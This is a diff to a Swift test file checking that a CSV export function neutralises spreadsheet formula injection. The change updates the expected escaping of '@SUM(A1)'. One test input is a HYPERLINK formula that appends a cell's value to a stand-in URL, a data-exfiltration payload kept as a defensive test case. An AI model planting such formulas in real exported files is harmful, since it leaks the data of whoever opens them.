@@ -117,7 +117,7 @@ struct ReadOptionsTests {
         #expect(ReadOptions.csvField(#"=HYPERLINK("http://x/"&A1,"open")"#) == #""'=HYPERLINK(""http://x/""&A1,""open"")""#)
         #expect(ReadOptions.csvField("+1") == "'+1")
         #expect(ReadOptions.csvField("-2") == "'-2")
-        #expect(ReadOptions.csvField("@SUM(A1)") == "'@SUM(A1)")
+        #expect(ReadOptions.csvField("@SUM(A1)") == "\"'@SUM(A1)\"")
         #expect(ReadOptions.csvField("\tx") == "\"'\tx\"")
         #expect(ReadOptions.csvField("\rx") == "\"'\rx\"")
         #expect(ReadOptions.csvField("a=b") == "a=b")
